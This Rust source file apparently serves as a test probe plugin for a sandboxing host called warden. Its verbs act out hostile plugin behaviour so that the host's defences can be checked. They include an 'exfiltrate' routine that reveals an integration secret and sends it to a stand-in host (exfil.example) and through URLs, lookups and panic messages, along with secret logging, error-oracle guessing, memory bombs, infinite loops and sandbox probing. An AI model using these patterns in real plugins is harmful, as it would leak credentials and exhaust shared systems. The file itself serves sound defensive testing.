//! A plugin for warden's tests. The flow var `action` (`verb` or `verb:argument`)
//! picks what `on_request` and `after_request` do (`after_action`, when set, overrides it
//! for `after_request`); `on_escalate` always denies (which the host must refuse). See the
//! match in [`act`] for the verbs. Verbs that call the host turn a refused call into a
//! denial, or, with the flow var `errors = "fail"`, into an error (the hook fails closed).

use std::hint::black_box;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use warden_sdk::integrations;
use warden_sdk::log;
use warden_sdk::prelude::*;

struct Probe;

#[warden_sdk::plugin]
impl Plugin for Probe {
    fn on_request(event: &Event) -> Result<Decision> {
        act(event)
    }

    fn after_request(event: &Event) -> Result<Decision> {
        match event.var("after_action") {
            Some(action) => act_on(event, action),
            None => act(event),
        }
    }

    fn on_escalate(event: &Event) -> Result<Decision> {
        match event.var("escalate_action") {
            Some(action) => act_on(event, action),
            None => Ok(Decision::deny("probe denies escalation")),
        }
    }
}

fn act(event: &Event) -> Result<Decision> {
    act_on(event, event.var_or("action", "continue"))
}

/// What a verb does with a host call that failed: deny with the error as the reason, or
/// (with `errors = "fail"`) return the error.
fn refused(event: &Event, error: impl std::fmt::Display) -> Result<Decision> {
    if event.var("errors") == Some("fail") {
        bail!("{error}")
    }
    Ok(Decision::deny(error.to_string()))
}

fn act_on(event: &Event, action: &str) -> Result<Decision> {
    let (verb, arg) = action.split_once(':').unwrap_or((action, ""));
    match verb {
        "continue" => Ok(Decision::Continue),
        "approve" => Ok(Decision::approve(arg)),
        "deny" => Ok(Decision::deny(arg)),
        "ignore" => Ok(Decision::ignore(arg)),
        "integration" => Ok(describe_integration(arg)),
        // How the host handed the field `arg` on: its type and value.
        "field" => Ok(Decision::approve(format!("{:?}", event.field(arg)))),
        "aliases" => {
            let mut aliases = integrations::aliases();
            aliases.sort();
            Ok(Decision::approve(aliases.join(",")))
        }
        "secret-open" => match open_secret(arg) {
            Ok(secret) => Ok(Decision::approve(format!(
                "opened {} at {}",
                secret.id(),
                secret.path()
            ))),
            Err(error) => refused(event, error),
        },
        "secret-reveal" => match reveal(arg) {
            Ok(value) => Ok(Decision::approve(value)),
            Err(error) => refused(event, error),
        },
        "log-secret" => match reveal(arg) {
            Ok(value) => {
                log::info(&format!("the key is {value}"));
                eprintln!("the key is {value}");
                Ok(Decision::Continue)
            }
            Err(error) => refused(event, error),
        },
        "http" => to_decision(event, plain_http(arg)),
        "http-sealed" => to_decision(event, sealed_http(arg)),
        // Retries a call until it succeeds, as a careless plugin might: only the hook's
        // deadline ends it when the call keeps failing.
        "http-retry" => loop {
            if let Ok(reason) = plain_http(arg) {
                return Ok(Decision::approve(reason));
            }
        },
        "lookup" => {
            let (service, service_id) = two(arg)?;
            match event.requester.identity(service, service_id) {
                Ok(Some(identity)) => Ok(Decision::approve(identity.user_id)),
                Ok(None) => Ok(Decision::approve("none")),
                Err(error) => refused(event, error),
            }
        }
        "persist" => {
            let [service, service_id, user_id] = words(arg)?;
            let email = &event.requester.email;
            match persist_user_identity(email, service, service_id, user_id) {
                Ok(identity) => Ok(Decision::approve(format!("persisted {}", identity.user_id))),
                Err(error) => refused(event, error),
            }
        }
        // `<count> <service> <service_id>`: one identity each for `count` made-up users.
        "persist-flood" => {
            let [count, service, service_id] = words(arg)?;
            for i in 0..count.parse::<u32>()? {
                let email = format!("user{i}@flood.example");
                if let Err(error) = persist_user_identity(&email, service, service_id, "u") {
                    return refused(event, format!("persist #{i}: {error}"));
                }
            }
            Ok(Decision::approve(format!("persisted {count}")))
        }
        // `<bytes> <service> <service_id>`: the requester's identity with a huge user id.
        "persist-huge" => {
            let [bytes, service, service_id] = words(arg)?;
            let user_id = "u".repeat(bytes.parse()?);
            let email = &event.requester.email;
            match persist_user_identity(email, service, service_id, &user_id) {
                Ok(_) => Ok(Decision::approve("persisted")),
                Err(error) => refused(event, error),
            }
        }
        // Tries to smuggle the alias's revealed secret out through everything the host
        // records: a host name, a URL, a secret id, an integration alias, a service id, a
        // panic message.
        "exfiltrate" => exfiltrate(arg),
        "cache-set" => {
            let [key, value, ttl] = words(arg)?;
            let ttl = Duration::from_secs(ttl.parse()?);
            Ok(match cache::set(key, value.as_bytes(), ttl) {
                Ok(()) => Decision::approve("set"),
                Err(error) => Decision::deny(error.to_string()),
            })
        }
        "cache-get" => Ok(match cache::get(arg) {
            Some(value) => Decision::approve(String::from_utf8_lossy(&value)),
            None => Decision::approve("miss"),
        }),
        "loop" => spin(),
        "memory-bomb" => hoard(),
        // One allocation far over any memory limit, in a single step.
        "huge-alloc" => {
            let mut buffer: Vec<u8> = Vec::with_capacity(arg.parse()?);
            buffer.push(1);
            Ok(Decision::approve(black_box(buffer).len().to_string()))
        }
        "stack-overflow" => Ok(Decision::approve(recurse(0).to_string())),
        "panic" => panic!("probe panicked"),
        "error" => bail!("probe failed on purpose"),
        "stdout" => {
            print!("{}", "x".repeat(arg.parse()?));
            Ok(Decision::Continue)
        }
        "log-flood" => {
            let n: u64 = arg.parse()?;
            for i in 0..n {
                log::info(&format!("flood {i}"));
            }
            Ok(Decision::Continue)
        }
        // `<alias> <reason_pad> <stdout_pad>`: the revealed value after padding, in the
        // reason and on stdout, so the host's bounds cut through the middle of it. The reason
        // goes on for 100 bytes after the value: the cut's marker is longer than the value.
        "cut-secret" => {
            let [alias, reason_pad, stdout_pad] = words(arg)?;
            let value = reveal(alias)?;
            // One write, so stdout's buffer does not hold the value back.
            let out = format!("{}{value}", "x".repeat(stdout_pad.parse()?));
            print!("{out}");
            Ok(Decision::approve(format!(
                "{}{value}{}",
                "r".repeat(reason_pad.parse()?),
                "t".repeat(100)
            )))
        }
        "big-reason" => Ok(Decision::approve("r".repeat(arg.parse()?))),
        "counter" => {
            // Survives between events only if the host reuses instances; it must not.
            static EVENTS_SEEN: AtomicU32 = AtomicU32::new(0);
            Ok(Decision::approve(
                (EVENTS_SEEN.fetch_add(1, Ordering::SeqCst) + 1).to_string(),
            ))
        }
        "wasi" => Ok(Decision::approve(probe_wasi(arg))),
        // HTTP egress (issue 14: headers a plugin may not set, redaction of what comes back,
        // metrics labels).
        // `<url>|<name>|<value>`: GET with one text header of the plugin's choosing.
        "http-header" => {
            let [url, name, value] = fields(arg)?;
            let sent = http::get(url).header(name, value).send();
            to_decision(event, sent.map(|r| format!("status={}", r.status())))
        }
        // `<alias>|<url>|<name>`: GET with the alias's first secret sealed under a header
        // name of the plugin's choosing.
        "http-sealed-as" => {
            let [alias, url, name] = fields(arg)?;
            let sent = integration(alias).and_then(|integration| {
                http::get(url)
                    .header_secret(name, integration.secret(0)?)
                    .send()
            });
            to_decision(event, sent.map(|r| format!("status={}", r.status())))
        }
        // `<alias>|<url>|<headers>|<requests>`: `requests` GETs, each with the alias's first
        // secret sealed under `headers` names (`X-Key-0`, ...); approves with each one's
        // status or error, separated by ` ;; `.
        "http-sealed-many" => {
            let [alias, url, headers, requests] = fields(arg)?;
            let integration = integration(alias)?;
            let secret = integration.secret(0)?;
            let mut seen = Vec::new();
            for _ in 0..requests.parse::<usize>()? {
                let mut request = http::get(url);
                for i in 0..headers.parse::<usize>()? {
                    request = request.header_secret(format!("X-Key-{i}"), secret);
                }
                seen.push(match request.send() {
                    Ok(r) => format!("status={}", r.status()),
                    Err(e) => format!("error={e}"),
                });
            }
            Ok(Decision::approve(seen.join(" ;; ")))
        }
        // `<url>|<guess>`: sends `guess` where the host refuses it before anything goes out
        // (in a header name, and as the host of a URL with no scheme warden speaks), and
        // approves with whether each error showed the guess as sent: `header:as-sent
        // url:as-sent`, or `hidden` where it did not (redaction would tell a guessed secret
        // value apart). When `url` holds `GUESS`, also GETs it with the guess put there
        // (`host:...`: a name that cannot be resolved, say).
        "guess" => {
            let [url, guess] = fields(arg)?;
            // A URL's host comes back lowercased.
            let guess_lowercased = guess.to_ascii_lowercase();
            let shown = |result: Result<http::Response>| match result {
                Err(error)
                    if error
                        .to_string()
                        .to_ascii_lowercase()
                        .contains(&guess_lowercased) =>
                {
                    "as-sent"
                }
                Err(_) => "hidden",
                Ok(_) => "sent",
            };
            let header = shown(http::get(url).header(format!("{guess} x"), "1").send());
            let scheme = shown(http::get(format!("ftp://{guess}/")).send());
            let mut seen = format!("header:{header} url:{scheme}");
            if url.contains("GUESS") {
                let host = shown(http::get(url.replace("GUESS", guess)).send());
                seen.push_str(&format!(" host:{host}"));
            }
            Ok(Decision::approve(seen))
        }
        // `<url>`: GET; approves with everything the plugin was given (status, headers, body,
        // or the error) hex-encoded, out of reach of the redaction of reasons, so a test sees
        // exactly what the plugin saw.
        "http-hex" => {
            let seen = match http::get(arg).send() {
                Ok(r) => {
                    let mut seen = format!("{}\n", r.status());
                    for (k, v) in &r.headers {
                        seen.push_str(&format!("{k}: {v}\n"));
                    }
                    seen.push('\n');
                    seen.push_str(&String::from_utf8_lossy(&r.body));
                    seen
                }
                Err(error) => format!("error {error}"),
            };
            Ok(Decision::approve(hex(seen.as_bytes())))
        }
        // `<url> <url> ...`: GET each in turn, whatever the answers; approves with each
        // status or error kind.
        "http-each" => {
            let outcomes: Vec<String> = arg
                .split_whitespace()
                .map(|url| match http::get(url).send() {
                    Ok(r) => r.status().to_string(),
                    Err(error) => error
                        .to_string()
                        .split(':')
                        .next()
                        .unwrap_or("")
                        .to_string(),
                })
                .collect();
            Ok(Decision::approve(outcomes.join(" ")))
        }
        // ---- Sizes (issue 14, class 2): what the plugin hands the host, of any size. ----
        // `<lines>`: that many empty log lines, then as many empty lines on stdout and stderr.
        "flood-empty-lines" => {
            let lines: usize = arg.parse()?;
            for _ in 0..lines {
                log::info("");
            }
            let newlines = "\n".repeat(lines);
            print!("{newlines}");
            eprint!("{newlines}");
            Ok(Decision::Continue)
        }
        // `<what> <bytes>`: `bytes` of the character JSON escapes longest, handed over as
        // `what` (see [`hand_over`]).
        "huge" => {
            let [what, bytes] = words(arg)?;
            hand_over(what, &escaped_longest(bytes.parse()?))
        }
        // `<what> <bytes>`: as `huge`, with the plugin holding the text once where `huge`
        // copies it: a `reason` or an `error` moved into the answer (the SDK copies an error
        // once more, into the string it returns), a `url` built in place. So the largest text
        // fits in a small `memory_mib`, and what the host's memory grows by is its own.
        "huge-once" => {
            let [what, bytes] = words(arg)?;
            let bytes: usize = bytes.parse()?;
            match what {
                "reason" => Ok(Decision::approve(escaped_longest(bytes))),
                "error" => Err(warden_sdk::Error::msg(escaped_longest(bytes))),
                "url" => {
                    let mut url = String::with_capacity(bytes + 32);
                    url.push_str("http://127.0.0.1:9/");
                    url.extend(std::iter::repeat_n('"', bytes));
                    drop(http::get(url).send());
                    Ok(Decision::Continue)
                }
                // `bytes` empty headers on one request; denies with the error.
                "headers" => {
                    let mut request = http::get("http://127.0.0.1:9/");
                    for _ in 0..bytes {
                        request = request.header("", "");
                    }
                    match request.send() {
                        Ok(_) => Ok(Decision::Continue),
                        Err(error) => Ok(Decision::deny(error.to_string())),
                    }
                }
                other => hand_over(other, &escaped_longest(bytes)),
            }
        }
        // `<query|headers> <bytes> <entries>`: one request whose `entries` query pairs (or
        // headers) all point at one string of `bytes`, held once; denies with the error.
        "aliased" => {
            let [what, bytes, entries] = words(arg)?;
            let entries: usize = entries.parse()?;
            let mut text = std::mem::ManuallyDrop::new("q".repeat(bytes.parse()?));
            let (ptr, len, cap) = (text.as_mut_ptr(), text.len(), text.capacity());
            // SAFETY: every copy is forgotten below without being freed or written through;
            // `text` outlives them and is freed once, at the end.
            let alias = || unsafe { String::from_raw_parts(ptr, len, cap) };
            use warden_sdk::bindings::warden::plugin::http as wit;
            let (mut query, mut headers) = (Vec::new(), Vec::new());
            for _ in 0..entries {
                match what {
                    "query" => query.push((alias(), alias())),
                    _ => headers.push((alias(), wit::HeaderValue::Text(alias()))),
                }
            }
            let request = wit::Request {
                method: wit::Method::Get,
                url: "http://127.0.0.1:9/".into(),
                query,
                headers,
                body: None,
                timeout_ms: None,
            };
            let sent = wit::send(&request);
            let wit::Request { query, headers, .. } = request;
            for (k, v) in query {
                std::mem::forget((k, v));
            }
            for header in headers {
                std::mem::forget(header);
            }
            drop(std::mem::ManuallyDrop::into_inner(text));
            match sent {
                Ok(_) => Ok(Decision::Continue),
                Err(error) => Ok(Decision::deny(error.to_string())),
            }
        }
        // `<bytes> <rounds>`: every name a refusal or a recorded call quotes, a log line and
        // stdout and stderr, `rounds` times each with `bytes` of text; then an error of it.
        "hoard-host" => {
            let [bytes, rounds] = words(arg)?;
            let text = escaped_longest(bytes.parse()?);
            for _ in 0..rounds.parse::<u32>()? {
                for what in ["alias", "secret", "service", "email", "url", "host", "log"] {
                    hand_over(what, &text)?;
                }
                println!("{text}");
                eprintln!("{text}");
            }
            bail!("{text}")
        }
        // `<alias> <pad>`: the alias's revealed value after `pad` bytes, and a long tail, as
        // an integration alias and a secret id: a bound on quoted names cuts through it.
        "secret-at-cut" => {
            let [alias, pad] = words(arg)?;
            let value = reveal(alias)?;
            let name = format!("{}{value}{}", "a".repeat(pad.parse()?), "z".repeat(4096));
            let _ = integrations::get(&name);
            let _ = open_secret(&name);
            Ok(Decision::Continue)
        }
        // `<count>`: that many integration handles (one secret each), never dropped; a line
        // every 256 says how many are held.
        "hoard-handles" => {
            for held in 0..arg.parse::<u32>()? {
                if held % 256 == 0 {
                    log::info(&format!("holding {held}"));
                }
                let Some(integration) = integrations::get("victorops") else {
                    bail!("probe: no integration `victorops`");
                };
                std::mem::forget(integration);
            }
            Ok(Decision::Continue)
        }
        // ---- end of sizes ----
        // Scheduling (one plugin must not freeze the host): a fixed amount of CPU work,
        // `<iterations>` of a loop, then an approval. Unlike `loop` it ends, but only if the
        // host gives it CPU.
        "burn" => {
            let mut n = 0u64;
            for _ in 0..arg.parse::<u64>()? {
                n = black_box(n.wrapping_add(1));
            }
            Ok(Decision::approve(format!("burned {n}")))
        }
        other => bail!("probe: unknown action `{other}`"),
    }
}

/// `bytes` control characters: each takes six bytes in JSON (`\u0001`).
fn escaped_longest(bytes: usize) -> String {
    "\u{1}".repeat(bytes)
}

/// Hands `text` to the host as `what`: an integration `alias`, a `secret` id, a `service`
/// id or an `email` to look up (in the `custom`/`vo-ext` service), a `url` path or a `host`
/// name (as many quotes or letters) to send to, a `log` line, the hook's `error`, a `panic` message
/// or the decision's `reason`. A lookup that fails denies with the error.
fn hand_over(what: &str, text: &str) -> Result<Decision> {
    match what {
        "alias" => drop(integrations::get(text)),
        "secret" => drop(open_secret(text)),
        "service" => drop(warden_sdk::identities::lookup(
            "a@example.com",
            "custom",
            text,
        )),
        "email" => {
            if let Err(error) = warden_sdk::identities::lookup(text, "custom", "vo-ext") {
                return Ok(Decision::deny(error.to_string()));
            }
        }
        // URL parsers strip control characters at the ends: quotes, which become `%22`.
        "url" => {
            let path = "\"".repeat(text.len());
            drop(http::get(format!("http://127.0.0.1:9/{path}")).send())
        }
        "host" => {
            let host = "h".repeat(text.len());
            drop(http::get(format!("http://{host}.example/")).send())
        }
        "log" => log::info(text),
        "error" => bail!("{text}"),
        "panic" => panic!("{text}"),
        "reason" => return Ok(Decision::approve(text)),
        other => bail!("probe: nothing to hand over as `{other}`"),
    }
    Ok(Decision::Continue)
}

fn to_decision(event: &Event, result: Result<String>) -> Result<Decision> {
    match result {
        Ok(reason) => Ok(Decision::approve(reason)),
        Err(error) => refused(event, error),
    }
}

fn exfiltrate(alias: &str) -> Result<Decision> {
    let value = reveal(alias)?;
    let _ = http::get(format!("http://{value}.exfil.example/")).send();
    let _ = http::get(format!("not a url {value}")).send();
    let _ = http::get(format!("http://127.0.0.1:9/{value}?k={value}")).send();
    let _ = open_secret(&value);
    let _ = integrations::get(&value);
    let _ = warden_sdk::identities::lookup("a@example.com", "custom", &value);
    panic!("giving up with {value}")
}

fn describe_integration(alias: &str) -> Decision {
    let Some(integration) = integrations::get(alias) else {
        return Decision::deny("none");
    };
    let mut settings: Vec<String> = integration
        .settings
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    settings.sort();
    Decision::approve(format!(
        "{} {} {} secrets={} settings={}",
        integration.name,
        integration.type_,
        integration.external_id,
        integration.secrets.len(),
        settings.join(",")
    ))
}

fn reveal(alias: &str) -> Result<String> {
    let integration = integration(alias)?;
    Ok(integration.secret(0)?.retrieve_value()?)
}

/// `<METHOD> <url>`, no headers.
fn plain_http(arg: &str) -> Result<String> {
    let (method, url) = two(arg)?;
    let response = http::request(method.parse()?, url).send()?;
    Ok(format!(
        "status={} body={}",
        response.status(),
        first_500(&response)
    ))
}

/// `<alias> <url>`: GET with the alias's first secret sealed in `X-Api-Key`.
fn sealed_http(arg: &str) -> Result<String> {
    let (alias, url) = two(arg)?;
    let integration = integration(alias)?;
    let response = http::get(url)
        .header_secret("X-Api-Key", integration.secret(0)?)
        .header("X-Api-Id", &integration.external_id)
        .send()?;
    let headers: Vec<String> = response
        .headers
        .iter()
        .map(|(k, v)| format!("{k}={v}"))
        .collect();
    Ok(format!(
        "status={} body={} headers={}",
        response.status(),
        first_500(&response),
        headers.join(";")
    ))
}

fn first_500(response: &Response) -> String {
    response.text().chars().take(500).collect()
}

fn two(arg: &str) -> Result<(&str, &str)> {
    let [a, b] = words(arg)?;
    Ok((a, b))
}

fn words<const N: usize>(arg: &str) -> Result<[&str; N]> {
    let words: Vec<&str> = arg.split_whitespace().collect();
    words
        .try_into()
        .map_err(|_| Error::msg(format!("probe: expected {N} words in `{arg}`")))
}

/// `N` fields separated by `|` (values may hold spaces and control characters).
fn fields<const N: usize>(arg: &str) -> Result<[&str; N]> {
    let fields: Vec<&str> = arg.splitn(N, '|').collect();
    fields.try_into().map_err(|_| {
        Error::msg(format!(
            "probe: expected {N} `|`-separated fields in `{arg}`"
        ))
    })
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn spin() -> ! {
    let mut n = 0u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn hoard() -> ! {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        for byte in chunk.iter_mut().step_by(4096) {
            *byte = 1;
        }
        hoard.push(black_box(chunk));
        black_box(&hoard);
    }
}

/// Recursion with work after the call (so it is no tail call) and a frame the
/// optimiser can't see through.
#[inline(never)]
fn recurse(depth: u64) -> u64 {
    let frame = black_box([depth; 32]);
    if black_box(true) {
        recurse(frame[0] + 1).wrapping_add(frame[31])
    } else {
        frame[1]
    }
}

/// What WASI grants: `<addr>` is a TCP address to try to connect to.
fn probe_wasi(addr: &str) -> String {
    let env = std::env::vars().count();
    let args = std::env::args().count();
    let root = match std::fs::read_dir("/") {
        Ok(_) => "readable".to_string(),
        Err(e) => format!("refused ({})", e.kind()),
    };
    let tcp = match std::net::TcpStream::connect(addr) {
        Ok(_) => "connected".to_string(),
        Err(e) => format!("refused ({})", e.kind()),
    };
    let dns = match std::net::ToSocketAddrs::to_socket_addrs(&("localhost", 80)) {
        Ok(_) => "resolved".to_string(),
        Err(e) => format!("refused ({})", e.kind()),
    };
    format!("env={env} args={args} fs={root} tcp={tcp} dns={dns}")
}
